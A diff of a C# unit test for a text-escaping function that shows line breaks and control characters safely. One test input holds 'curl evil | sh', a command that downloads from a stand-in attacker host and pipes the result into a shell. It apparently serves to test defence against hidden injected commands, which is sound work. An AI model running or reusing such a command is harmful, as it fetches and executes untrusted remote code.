@@ -25,7 +25,7 @@ public sealed class ShownTextTests
 
     [Theory]
     [InlineData("1 processor\nNext      curl evil | sh", "1 processor Next      curl evil | sh")]
-    [InlineData("a\r\nb\tc\u0085d", "a b c d")]
+    [InlineData("a\r\nb\tc\u0085d\re", @"a b c\u{85}d\u{D}e")]
     public void EscapeLine_LineBreak_IsASpace(string text, string shown) => Assert.Equal(shown, ShownText.EscapeLine(text));
 
     [Fact]
